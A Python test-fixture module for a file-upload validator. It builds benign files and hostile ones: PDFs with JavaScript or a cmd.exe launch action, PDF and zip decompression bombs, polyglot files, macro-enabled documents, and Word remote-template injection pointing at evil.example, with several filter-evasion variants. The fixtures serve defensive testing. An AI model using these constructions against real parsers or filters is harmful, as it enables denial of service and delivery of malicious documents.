"""Files as people send them, and as attackers do."""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any, Final

import pikepdf


def pdf(change: Any = None, **options: Any) -> bytes:
    """A PDF of one page; `change` gets it before it is written, `options` are how."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(300, 400))
    if change is not None:
        change(made)
    written = io.BytesIO()
    made.save(written, **options)
    return written.getvalue()


def png(width: int = 8, height: int = 8) -> bytes:
    """A white picture; of a large one only the header is true."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\0" + b"\xff" * width * 3)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    """A picture with the segments of a camera's."""
    frame = b"\xff\xc0\x00\x11\x08\x00\x08\x00\x08\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + frame + b"\xff\xd9"


def archive(parts: Mapping[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file of these parts."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as made:
        for name, content in parts.items():
            made.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else None)
    return written.getvalue()


_TYPES: Final = (
    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_MACRO_TYPE: Final = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def docx(**parts: bytes | str) -> bytes:
    """A document of a word processor, with more parts."""
    own = {"[Content_Types].xml": _TYPES, "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>"}
    return archive(own | parts)


EXECUTABLE: Final = b"MZ" + b"\0" * 58 + struct.pack("<I", 128) + b"\0" * 64 + b"PE\0\0\x64\x86" + b"\0" * 400


def javascript(made: Any) -> None:
    """Runs a script when it is opened."""
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def launch(made: Any) -> None:
    """Starts a program when a place on the page is clicked."""
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(link)]))


def _printing(made: Any) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.Print)


def _named_script(made: Any) -> None:
    script = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))


def _additional(made: Any) -> None:
    made.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.GoTo))


def _attachment(made: Any) -> None:
    made.attachments["a.txt"] = b"hello"


def _dynamic(made: Any) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pikepdf.Array([]))


def _opening_place(made: Any) -> None:
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def packed_blanks(megabytes: int) -> bytes:
    """So many MB of blanks in as many kB, of which one is packed: the others are the same again."""
    blanks, packer = b" " * 1_000_000, zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = packer.compress(blanks) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(blanks, checksum)
    return b"\x78\xda" + block * megabytes + packer.flush() + checksum.to_bytes(4, "big")


def flate_bomb(made: Any) -> None:
    """A page whose content is 200 MB of blanks in 200 kB."""
    stream = made.make_stream(b"")
    stream.write(packed_blanks(200), filter=pikepdf.Name.FlateDecode)
    made.pages[0].Contents = stream


def _packed_twice(made: Any) -> None:
    stream = made.make_stream(b"")
    stream.write(zlib.compress(zlib.compress(b" " * 1_000_000)), filter=[pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    made.pages[0].Contents = stream


def bomb_pdf() -> bytes:
    """A small PDF that unpacks to 200 MB."""
    return pdf(flate_bomb, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


_AS_IT_IS: Final[dict[str, Any]] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


def _text_bomb(made: Any) -> None:
    packed = base64.a85encode(packed_blanks(200)) + b"~>"
    names = pikepdf.Array([pikepdf.Name.ASCII85Decode, pikepdf.Name.FlateDecode])
    made.pages[0].Contents = made.make_indirect(pikepdf.Stream(made, packed, Filter=names))


def _hexadecimal(made: Any) -> None:
    packed = zlib.compress(b"q Q", 9).hex().encode() + b">"
    names = pikepdf.Array([pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode])
    made.pages[0].Contents = made.make_indirect(pikepdf.Stream(made, packed, Filter=names))


def _going_on(made: Any) -> None:
    onward = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/")
    place = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=place, Next=onward)


def zip_bomb() -> bytes:
    """A document of 20 kB that unpacks to 20 MB."""
    return docx(**{"word/big.xml": b"\0" * 20_000_000})


_TEMPLATE: Final = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
_RELATIONSHIPS: Final = "word/_rels/settings.xml.rels"
_MACRO_TYPES: Final = (
    "<Types><!-- wordprocessingml.document.main+xml --><Override "
    'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
_LINK: Final = _TEMPLATE.replace("attachedTemplate", "hyperlink")

REFUSED: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
    "an executable": (lambda: EXECUTABLE, "type_not_allowed"),
    "a web page": (lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "type_not_allowed"),
    "a plain zip file": (lambda: archive({"a.txt": "a"}), "type_not_allowed"),
    "a PDF with JavaScript": (lambda: pdf(javascript), "javascript"),
    "a PDF with a script by name": (lambda: pdf(_named_script), "javascript"),
    "a PDF that launches a program": (lambda: pdf(launch), "action"),
    "a PDF that prints itself": (lambda: pdf(_printing), "action"),
    "a PDF with additional actions": (lambda: pdf(_additional), "action"),
    "a PDF with a file in it": (lambda: pdf(_attachment), "embedded_files"),
    "a PDF with a dynamic form": (lambda: pdf(_dynamic), "dynamic_form"),
    "an encrypted PDF": (lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
    "a PDF encrypted but opened without a password": (lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "encrypted"),
    "a PDF cut off": (lambda: pdf()[:200], "unreadable"),
    "a PDF that unpacks to 200 MB": (bomb_pdf, "bomb"),
    "a PDF packed twice": (
        lambda: pdf(_packed_twice, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none),
        "bomb",
    ),
    "a zip bomb": (zip_bomb, "bomb"),
    "a document of ten thousand parts": (lambda: docx(**{f"word/{number}.xml": "" for number in range(10_001)}), "bomb"),
    "a PDF that is a zip file too": (lambda: pdf() + archive({"a.txt": "a"}), "polyglot"),
    "a picture that is a zip file too": (lambda: jpeg() + archive({"a.txt": "a"}), "polyglot"),
    "a picture that is a PDF too": (lambda: png()[:60] + pdf(), "polyglot"),
    "a picture of a hundred thousand rows": (lambda: png(100_000, 100_000), "bomb"),
    "a picture without a size": (lambda: png(0, 8), "unreadable"),
    "a JPEG cut off": (lambda: jpeg()[:22], "unreadable"),
    "a document with macros": (lambda: docx(**{"word/vbaProject.bin": b"x"}), "macros"),
    "a document with macros by its types, written otherwise": (
        lambda: docx(**{"[Content_Types].xml": _MACRO_TYPES.replace("macroEnabled", "&#109;acroEnabled")}),
        "macros",
    ),
    "a document with macros in a part of another name": (
        lambda: docx(**{"word/_rels/document.xml.rels": _TEMPLATE.replace("attachedTemplate", "vbaProject")}),
        "macros",
    ),
    "a document with an object in it": (lambda: docx(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded_files"),
    "a document that fetches its template": (lambda: docx(**{"word/_rels/settings.xml.rels": _TEMPLATE}), "external_content"),
    "a PDF that opens a page of the web": (lambda: pdf(_going_on), "action"),
    "a PDF that unpacks to 200 MB, packed as text": (lambda: pdf(_text_bomb, **_AS_IT_IS), "bomb"),
    "a document that fetches its template, in single quotes": (
        lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.replace('"', "'")}),
        "external_content",
    ),
    "a document that fetches its template, in UTF-16": (
        lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.encode("utf-16")}),
        "external_content",
    ),
    "a document that fetches its template, far behind": (
        lambda: docx(**{_RELATIONSHIPS: _TEMPLATE.replace("><", ">" + " " * 300_000 + "<", 1)}),
        "external_content",
    ),
    "a document with macros by another name": (
        lambda: docx(**{"[Content_Types].xml": _TYPES.replace("</Types>", _MACRO_TYPE + "</Types>"), "word/x.bin": b"x"}),
        "macros",
    ),
    "a document that fetches its template, written otherwise": (
        lambda: docx(**{"word/_rels/settings.xml.rels": _TEMPLATE.replace('"External"', "'&#69;xternal'")}),
        "external_content",
    ),
    "a document with relations that are no XML": (
        lambda: docx(**{"word/_rels/settings.xml.rels": "<Relationships>"}),
        "unreadable",
    ),
    "a document with relations that declare entities": (
        lambda: docx(**{"word/_rels/settings.xml.rels": f'<!DOCTYPE a [<!ENTITY b "External">]>{_TEMPLATE}'}),
        "unreadable",
    ),
    "a damaged document": (
        lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}, zipfile.ZIP_STORED).replace(
            b"<a/>", b"<b/>"
        ),
        "unreadable",
    ),
}
"""What is refused, and the reason."""
TAKEN: Final[Mapping[str, tuple[Callable[[], bytes], str]]] = {
    "a PDF": (pdf, "application/pdf"),
    "a PDF that opens at a place": (lambda: pdf(_opening_place), "application/pdf"),
    "a PDF with objects in streams": (lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "application/pdf"),
    "a PDF with a page in hexadecimal digits": (lambda: pdf(_hexadecimal, **_AS_IT_IS), "application/pdf"),
    "a JPEG": (jpeg, "image/jpeg"),
    "a PNG": (png, "image/png"),
    "a document": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "a document with links": (
        lambda: docx(**{"word/_rels/document.xml.rels": _LINK}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "an OpenDocument text": (
        lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
        "application/vnd.oasis.opendocument.text",
    ),
}
"""What is taken, and its media type."""
